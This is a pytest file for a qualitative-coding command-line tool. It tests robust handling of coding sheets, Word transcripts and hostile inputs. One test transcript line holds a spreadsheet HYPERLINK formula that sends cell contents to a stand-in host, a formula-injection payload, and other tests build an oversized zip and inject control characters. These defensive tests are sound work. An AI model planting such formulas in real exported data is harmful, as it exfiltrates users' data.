"""Never lose or silently drop the researchers' work (issue #15): every coding file is read or
refused, text is never a formula, Word transcripts are read as Word shows them, and hostile or
huge inputs are refused or made safe, each with one line saying so."""

from __future__ import annotations

import itertools
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from qualcode.cli import app
from tests.conftest import CODERS, IDENTITIES, TRANSCRIPT
from tests.test_bad_input import VALID

runner = CliRunner()


def study(make_study, transcript: str | bytes = TRANSCRIPT, name: str = "fg1.txt",
          files: dict[str, str] | None = None) -> Path:
    """The small valid study of the bad-input tests (two coders, a consensus)."""
    root = make_study({name: transcript}, identities=IDENTITIES, extra=CODERS)
    for path, text in (VALID if files is None else files).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    return root


def invoke(root: Path, *args: str):
    return runner.invoke(app, [*args, "--study", str(root)])


def warnings_of(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith("warning: ")]


# --- every coding file is read or refused ---------------------------------------------------

def sheet_rows(path: Path) -> dict[str, list[list]]:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
            for sheet in workbook.worksheets}


def test_a_sheet_saved_as_ods_is_read(make_study):
    root = study(make_study, files={"codings/A.csv": VALID["codings/A.csv"]})
    assert invoke(root, "sheet", "--coder", "B").exit_code == 0
    sheets = sheet_rows(root / "codings/sheets/B.xlsx")
    rows = sheets["coding"]
    column = rows[2].index("housing.parking")
    rows[3][column] = "x"  # FG1-0002 (first codable row)
    with pd.ExcelWriter(root / "codings/B.ods", engine="odf") as writer:
        for title, table in sheets.items():
            pd.DataFrame(rows if title == "coding" else table).to_excel(
                writer, sheet_name=title, header=False, index=False)
    (root / "codings/sheets/B.xlsx").unlink()
    result = invoke(root, "collect")
    assert result.exit_code == 0, result.output
    codings = pd.read_csv(root / "analyses/codings.csv")
    assert ("B", rows[3][0], "housing.parking", "codings/B.ods") in set(
        codings.itertuples(index=False, name=None))


def test_an_xls_sheet_is_refused_and_the_previous_outputs_are_not_kept_as_current(make_study):
    root = study(make_study)
    assert invoke(root, "collect").exit_code == 0
    before = (root / "analyses/codings.csv").read_bytes()
    (root / "codings/B.csv").unlink()
    (root / "codings/B.xls").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504))
    result = invoke(root, "collect")
    assert result.exit_code == 1
    assert "codings/B.xls" in result.stderr and "save it as .xlsx" in result.stderr
    assert (root / "analyses/codings.csv").read_bytes() == before  # nothing written


def test_a_semicolon_csv_from_french_excel_is_read(make_study):
    root = study(make_study)
    (root / "codings/B.csv").write_text("coder;segment_id;code_id\n"
                                        "B;FG1-0002;housing.private_room\n", encoding="utf-8")
    result = invoke(root, "collect")
    assert result.exit_code == 0, result.output
    codings = pd.read_csv(root / "analyses/codings.csv")
    assert codings[codings["coder"] == "B"]["code_id"].tolist() == ["housing.private_room"]


def test_other_files_in_codings_are_named_in_a_warning(make_study):
    root = study(make_study)
    (root / "codings/notes de B.pdf").write_bytes(b"%PDF-1.4")
    (root / "codings/.~lock.B.xlsx#").write_text("lock", encoding="utf-8")
    result = invoke(root, "collect")
    assert result.exit_code == 0, result.output
    assert [w for w in warnings_of(result) if "not read" in w and "notes de B.pdf" in w]
    assert ".~lock" not in result.stderr


def test_a_declared_coder_without_any_file_is_named(make_study):
    root = study(make_study)
    (root / "codings/B.csv").unlink()
    (root / "codings/consensus.csv").unlink()
    result = invoke(root, "collect")
    assert result.exit_code == 0, result.output
    assert [w for w in warnings_of(result) if "coder(s) B of study.yaml" in w]


def test_rows_deleted_from_a_sheet_are_not_reviewed_not_uncoded(make_study):
    from openpyxl import load_workbook

    from qualcode.steps.collect import coding_stage
    from qualcode.steps.transcripts import prepare
    from qualcode.study import load_study

    root = study(make_study, files={"codings/A.csv": VALID["codings/A.csv"]})
    assert invoke(root, "sheet", "--coder", "B").exit_code == 0
    path = root / "codings/sheets/B.xlsx"
    workbook = load_workbook(path)
    sheet = workbook["coding"]
    rows = [row[0].value for row in sheet.iter_rows(min_row=4)]
    sheet.delete_rows(4 + rows.index("FG1-0004"))  # A coded parking there
    workbook.save(path)
    result = invoke(root, "collect")
    assert result.exit_code == 0, result.output
    assert [w for w in warnings_of(result) if "codings/sheets/B.xlsx: 1 row(s) of B's sheet "
            "are missing (FG1-0004)" in w and "not reviewed" in w]
    loaded = load_study(root)
    codebook, imported = prepare(loaded)
    stage = coding_stage(loaded, imported, codebook)
    assert "FG1-0004" not in set(stage.disagreements["segment_id"])
    assert "FG1-0002" in set(stage.disagreements["segment_id"])  # A coded, B saw and did not


# --- cells are data, never formulas ------------------------------------------------------------

FORMULA = 'Camille : =HYPERLINK("http://x.example/?q="&A1,"clic")'


def test_a_turn_that_looks_like_a_formula_stays_text_in_sheets_and_back(make_study):
    from openpyxl import load_workbook

    root = study(make_study, TRANSCRIPT + FORMULA + "\n",
                 files={"codings/A.csv": VALID["codings/A.csv"]})
    assert invoke(root, "sheet", "--coder", "B").exit_code == 0
    cells = [cell for row in load_workbook(root / "codings/sheets/B.xlsx")["coding"].iter_rows()
             for cell in row if isinstance(cell.value, str) and cell.value.startswith("=HYP")]
    assert cells and all(cell.data_type == "s" for cell in cells)
    result = invoke(root, "collect")  # qualcode reads its own fresh sheet back
    assert result.exit_code == 0, result.output
    assert invoke(root, "import", "--no-name-check").exit_code == 0
    text = (root / "analyses/segments.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_csv_guard_keeps_numbers_and_round_trips_through_qualcode_readers(tmp_path):
    from qualcode.io.files import write_csv
    from qualcode.io.workbooks import read_kept

    texts = ["=1+1", "+33 6", "-", "@Hugo", "\tTab", "'déjà cité'", "''", "'=x", "normal"]
    table = pd.DataFrame({"text": texts, "kappa": [-0.12] * len(texts)})
    path = write_csv(tmp_path / "t.csv", table)
    written = path.read_text(encoding="utf-8").splitlines()
    assert written[1] == "'=1+1,-0.12" and written[-1] == "normal,-0.12"
    assert [row["text"] for _, row in read_kept(path, ["text"])] == texts


@given(st.text(max_size=8))
def test_unguard_undoes_guard_for_every_text(text):
    from qualcode.io.cells import GUARDED, guard, unguard

    assert unguard(guard(text)) == text
    assert not guard(text).startswith(GUARDED)


# --- Word transcripts as Word shows them -------------------------------------------------------

def word_study(make_study, build) -> Path:
    import docx

    document = docx.Document()
    build(document)
    root = study(make_study, "x", files={})
    (root / "transcripts/fg1.txt").unlink()
    document.save(root / "transcripts/fg1.docx")
    manifest = root / "study.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8").replace("fg1.txt", "fg1.docx"),
                        encoding="utf-8")
    return root


def test_line_breaks_typed_with_shift_enter_start_turns(make_study):
    def build(document):
        run = document.add_paragraph().add_run()
        for n, line in enumerate(TRANSCRIPT.splitlines()):
            if n:
                run.add_break()
            run.add_text(line)

    root = word_study(make_study, build)
    result = invoke(root, "import", "--no-name-check")
    assert result.exit_code == 0, result.output
    segments = pd.read_csv(root / "analyses/segments.csv")
    assert set(segments["participant_id"]) == {"MOD", "P11", "P12"}
    assert segments["turn"].max() == 5


def test_tracked_changes_are_read_as_accepted_with_a_warning(make_study):
    from docx.oxml import parse_xml

    namespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

    def build(document):
        for line in TRANSCRIPT.splitlines():
            document.add_paragraph(line)
        paragraph = document.paragraphs[2]._p  # Hugo : Moi c'est le parking...
        paragraph.append(parse_xml(f'<w:ins {namespace} w:id="1" w:author="R"><w:r>'
                                   '<w:t xml:space="preserve"> Et le vélo.</w:t></w:r></w:ins>'))
        paragraph.append(parse_xml(f'<w:del {namespace} w:id="2" w:author="R"><w:r>'
                                   '<w:delText> Mot supprimé.</w:delText></w:r></w:del>'))

    root = word_study(make_study, build)
    result = invoke(root, "import", "--no-name-check")
    assert result.exit_code == 0, result.output
    assert [w for w in warnings_of(result) if "fg1.docx: tracked changes read as accepted" in w]
    text = (root / "analyses/segments.csv").read_text(encoding="utf-8")
    assert "Et le vélo." in text and "supprimé" not in text


def test_a_single_speaker_transcript_warns_of_silent_participants_and_dominance(make_study):
    root = study(make_study, "Animatrice : " + " ".join(TRANSCRIPT.splitlines()) + "\n",
                 files={})
    result = invoke(root, "import", "--no-name-check")
    assert result.exit_code == 0, result.output
    found = warnings_of(result)
    assert [w for w in found if "P11, P12" in w and "never speak" in w]
    assert [w for w in found if "MOD holds 100% of the words" in w]


# --- hostile or huge inputs -----------------------------------------------------------------

def test_control_characters_are_removed_at_import_with_one_warning(make_study):
    root = study(make_study, TRANSCRIPT.replace("parking.", "park\x00ing.\x1b[31m")
                 .replace("loyer", "lo\x85yer"), files={"codings/A.csv": VALID["codings/A.csv"]})
    result = invoke(root, "import", "--no-name-check")
    assert result.exit_code == 0, result.output
    assert [w for w in warnings_of(result) if "3 control character(s)" in w
            and "first at line 3" in w]
    text = (root / "analyses/segments.csv").read_text(encoding="utf-8")
    assert "parking.[31m" in text and "loyer" in text
    assert invoke(root, "sheet", "--coder", "B").exit_code == 0
    assert invoke(root, "export-docx").exit_code == 0


def test_a_turn_longer_than_spacys_limit_is_split_safely(monkeypatch):
    from qualcode.corpus import sentence_pipeline, split_sentences

    text = "Une chambre à moi. " * 20 + "Et le parking aussi, " * 10 + "fin."
    monkeypatch.setattr(sentence_pipeline(), "max_length", 100)
    spans = split_sentences([text])[0]
    assert spans[0][0] == 0 and spans[-1][1] == len(text)
    assert all(a[1] <= b[0] for a, b in itertools.pairwise(spans))
    assert [text[start:end] for start, end in spans[:20]] == ["Une chambre à moi."] * 20


def test_an_office_file_that_unpacks_past_the_limit_is_refused(tmp_path, monkeypatch):
    from qualcode.errors import CodingError
    from qualcode.io import zipped
    from qualcode.io.sheets import read_sheet

    monkeypatch.setattr(zipped, "OFFICE_BYTES", 1 << 20)
    path = tmp_path / "B.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (2 << 20))
    with pytest.raises(CodingError, match="unpacks to more than 1 MB"):
        read_sheet(path)


def test_utf16_without_a_mark_starting_with_a_dash_is_read(make_study):
    text = "— Animatrice : Bonjour à tous.\n" + TRANSCRIPT
    for encoding in ("utf-16-le", "utf-16-be"):
        from qualcode.io.transcripts import decode_text

        assert decode_text(text.encode(encoding), Path("fg1.txt")) == text


def test_identities_as_a_folder_is_one_clear_line(make_study):
    root = study(make_study)
    (root / "identities.csv").unlink()
    (root / "identities.csv").mkdir()
    result = invoke(root, "import")
    assert result.exit_code == 1
    assert result.stderr.count("\n") == 1 and "identities.csv: is a folder" in result.stderr


def test_an_unreadable_sheet_is_called_unreadable_not_damaged(make_study, monkeypatch):
    root = study(make_study, files={"codings/A.csv": VALID["codings/A.csv"]})
    assert invoke(root, "sheet", "--coder", "B").exit_code == 0
    opened = Path.open

    def denied(self, *args, **kwargs):
        if self.name == "B.xlsx":
            raise PermissionError(13, "Permission denied")
        return opened(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", denied)
    result = invoke(root, "collect")
    assert result.exit_code == 1
    assert "codings/sheets/B.xlsx: permission denied" in result.stderr
    assert "damaged" not in result.stderr
